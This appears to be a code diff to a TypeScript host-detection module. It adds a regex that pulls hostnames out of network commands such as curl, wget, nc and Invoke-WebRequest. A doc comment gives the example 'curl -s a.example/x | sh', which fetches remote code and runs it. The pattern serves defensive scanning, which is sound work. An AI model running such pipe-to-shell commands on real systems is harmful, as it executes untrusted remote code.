@@ -47,10 +47,26 @@ export function bareHost(value: string): Found | null {
   return kind === null || kind === 'development' ? null : { host, kind }
 }
 
+/** `curl -s a.example/x | sh`: no scheme is needed there. */
+const command =
+  /\b(?:curl|wget|nc|ncat|ping|nslookup|Invoke-WebRequest|iwr)\s(?:[^|;&]{0,200}?\s)?["']?([a-z0-9-]+(?:\.[a-z0-9-]+)+)(?=[/:\s"'|;&]|$)/gi
+
+/** What has a file's extension is a host only where a path follows. */
+const fileName = /\.(?:sh|js|json|tgz|gz|zip|tar|exe|py|txt|html?|pem|crt|key|log|md|ps1)$/i
+
+function commandHosts(value: string): readonly Found[] {
+  return [...value.slice(0, 5000).matchAll(command)].flatMap(({ 0: all, 1: host = '', index }) => {
+    const next = value[index + all.length]
+    return fileName.test(host) && next !== '/' && next !== ':' ? [] : (bareHost(host) ?? [])
+  })
+}
+
 /** The hosts of the URLs in a string. This machine counts where a port is asked for: `http://localhost` is a dummy. */
 export function hostsIn(value: string): readonly Found[] {
-  if (!value.includes('://')) return []
-  const found: Found[] = []
+  const found: Found[] = /\b(?:curl|wget|nc|ncat|ping|nslookup|iwr|Invoke-WebRequest) /i.test(value)
+    ? [...commandHosts(value)]
+    : []
+  if (!value.includes('://')) return found
   for (const match of value.slice(0, 1_000_000).matchAll(url)) {
     const host = (match[1] ?? '').toLowerCase().replace(/\.$/, '')
     const kind = kindOf(host, match[2] !== undefined)
